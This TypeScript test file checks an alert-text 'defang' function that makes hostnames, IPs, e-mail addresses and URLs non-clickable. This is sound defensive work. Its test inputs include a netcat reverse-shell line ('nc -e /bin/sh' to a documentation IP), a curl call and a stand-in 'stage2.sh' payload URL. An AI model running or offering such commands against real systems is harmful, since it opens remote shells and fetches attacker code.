import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { defang } from "../../lib/alerts/defang.js";
import { escapeText } from "../../lib/alerts/escape.js";
import { hostileLinkText, linkable } from "../helpers/hostile-text.js";

describe("defang", () => {
  it.each([
    // The "Hostile text" cases: domains without a scheme and addresses were left clickable.
    ["evil-payload.example.com/stage2.sh", "evil-payload[.]example[.]com/stage2[.]sh"],
    ["pastebin.com/raw/x", "pastebin[.]com/raw/x"],
    ["ops@evil.example", "ops[@]evil[.]example"],
    ["mailto:x@y.z", "mailto[:]x[@]y.z"],
    ["MailTo:ops@evil.example?subject=x", "MailTo[:]ops[@]evil[.]example?subject=x"],
    ["curl 1.2.3.4:8080", "curl 1[.]2[.]3[.]4:8080"],
    ["nc -e /bin/sh 203.0.113.5 4444", "nc -e /bin/sh 203[.]0[.]113[.]5 4444"],
    // URLs with a scheme, as before, and now their host too.
    ["https://evil.example/a", "hxxps[://]evil[.]example/a"],
    ["HTTP://X", "HxxP[://]X"],
    ["ftp://files.example", "fxp[://]files[.]example"],
    ["javascript://x", "javascript[://]x"],
    ["curl -u u:pw@evil.example", "curl -u u:pw[@]evil[.]example"],
    ["see www.evil.example", "see www[.]evil[.]example"],
    ["www.x", "www[.]x"],
    // IDN: the dots a resolver also reads as dots, a Unicode TLD, a punycode TLD.
    ["evil\u3002example", "evil[\u3002]example"],
    ["evil\uff0ecom", "evil[\uff0e]com"],
    ["пример.рф", "пример[.]рф"],
    ["evil.xn--p1ai", "evil[.]xn--p1ai"],
    // Over-inclusive by design: an extension that may be a TLD (`.sh` is one) is defanged, the path readable.
    ["/tmp/dropper.sh", "/tmp/dropper[.]sh"],
    ["/tmp/.hidden.sh", "/tmp/.hidden[.]sh"],
    // Nothing host-like: no TLD-like label after a dot, no dotted quad, a dot with nothing on one side.
    ["no link here", "no link here"],
    ["/tmp/.d/x", "/tmp/.d/x"],
    ["v1.0.0 T1071.004 18.628Z", "v1.0.0 T1071.004 18.628Z"],
    ["e.g. i.e. x. .. a..com", "e.g. i.e. x. .. a..com"],
    ["LANG=C.UTF-8 1.2.3", "LANG=C.UTF-8 1.2.3"],
    ["dig @192.0.2.53", "dig @192[.]0[.]2[.]53"],
    ["@channel and a@", "@channel and a@"],
  ])("%s", (input, output) => {
    expect(defang(input)).toBe(output);
    expect(linkable(defang(input))).toEqual([]);
  });

  it("defangs what escapeText writes around a hidden character", () => {
    expect(defang(escapeText("evil\u200b.com gnp\u202e.exe"))).toBe("evil\\u200b[.]com gnp\\u202e[.]exe");
  });

  it.each([
    ["dotted labels", "a.".repeat(100_000)],
    ["dotted labels ending in a digit", `${"ab.".repeat(66_667)}1`],
    ["dotted numbers", "1.".repeat(100_000)],
    ["at signs", "a@".repeat(100_000)],
    ["one long label", `x.${"a".repeat(200_000)}`],
    ["schemes", "http:/".repeat(33_334)],
    ["mixed", "a.b@c.1.2.3.d-e_f.xn--".repeat(10_000)],
  ])("a 200k-character adversarial input (%s) is processed in one linear pass", (_name, input) => {
    // A regex that backtracks per start position would be quadratic here, 10^10 steps: the test would hang.
    const out = defang(input);
    expect(out.length).toBeGreaterThanOrEqual(input.length);
    expect(linkable(out)).toEqual([]);
  });

  it("1 MB of hosts, addresses and hidden characters is escaped and defanged whole", () => {
    const input =
      "evil-payload.example.com/stage2.sh ops@evil.example \u{e0041}\u3164 1.2.3.4 a.b.c. ".repeat(15_000);
    expect(input.length).toBeGreaterThan(1_000_000);
    const out = defang(escapeText(input));
    expect(out).toContain(
      "evil-payload[.]example[.]com/stage2[.]sh ops[@]evil[.]example \\u{e0041}\\u3164 1[.]2[.]3[.]4",
    );
    expect(linkable(out)).toEqual([]);
  });

  it("property: no host name, IPv4 address, e-mail address or URL is left linkable", () => {
    fc.assert(
      fc.property(hostileLinkText, (input) => {
        const escaped = escapeText(input);
        const out = defang(escaped);
        expect(linkable(out)).toEqual([]);
        // Apart from a scheme's letters, defanging only adds brackets: without them the text is unchanged.
        const unbracketed = (text: string) => text.replace(/[[\]]/g, "");
        if (!/:\/\//.test(escaped)) expect(unbracketed(out)).toBe(unbracketed(escaped));
      }),
      { numRuns: 1000, seed: 20261127 },
    );
  });
});
